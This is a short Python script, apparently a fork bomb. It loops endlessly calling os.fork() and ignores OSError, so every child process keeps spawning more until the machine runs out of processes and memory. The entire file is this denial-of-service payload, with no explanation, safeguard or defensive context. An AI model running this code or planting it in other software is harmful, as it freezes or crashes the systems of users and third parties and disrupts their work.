"""Every child forks as well."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
